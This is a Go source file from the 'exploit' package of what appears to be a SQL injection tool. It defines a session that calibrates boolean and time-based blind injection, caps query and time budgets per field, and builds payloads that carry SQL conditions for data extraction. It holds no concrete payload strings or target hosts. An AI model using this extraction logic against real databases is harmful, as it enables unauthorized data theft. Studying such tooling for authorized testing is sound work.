package exploit

import (
	"time"

	"github.com/ahmad-20th/GrayTera/pkg/payloads"
	"github.com/ahmad-20th/GrayTera/pkg/scan"
)

// oracleSession holds the calibrated state for one extraction run. A
// session is created fresh per vulnerability, discarded on failure, and
// never resumed.
type oracleSession struct {
	point scan.InjectionPoint
	mode  scan.Technique

	// Boolean mode: the boundary that calibrated, and the response
	// fingerprints for known-true and known-false conditions. The
	// predicate matches fingerprints, so an inverted page (TRUE side
	// smaller than FALSE side) works identically.
	boundary payloads.Boundary
	trueFP   scan.Fingerprint
	falseFP  scan.Fingerprint

	// Time mode: the dialect template that calibrated, the baseline
	// round-trip and the delay threshold above which a probe is TRUE
	template  payloads.Template
	baseline  time.Duration
	threshold time.Duration
	delaySec  int

	// Per-field budgets, reset by resetBudget
	queries    int
	maxQueries int
	deadline   time.Time
}

// resetBudget starts a fresh query and wall-clock budget for one field
func (s *oracleSession) resetBudget(maxQueries int, budget time.Duration) {
	s.queries = 0
	s.maxQueries = maxQueries
	if budget > 0 {
		s.deadline = time.Now().Add(budget)
	} else {
		s.deadline = time.Time{}
	}
}

// spend consumes one query from the budget; returns false when either
// budget is exhausted
func (s *oracleSession) spend() bool {
	if s.maxQueries > 0 && s.queries >= s.maxQueries {
		return false
	}
	if !s.deadline.IsZero() && time.Now().After(s.deadline) {
		return false
	}
	s.queries++
	return true
}

// payloadFor renders the injection payload carrying the given SQL
// condition in the session's calibrated context
func (s *oracleSession) payloadFor(condition string) string {
	if s.mode == scan.TechniqueTimeBlind {
		return s.template.Render(payloads.Params{Condition: condition, Delay: s.delaySec})
	}
	return s.boundary.Prefix + condition + s.boundary.Suffix
}
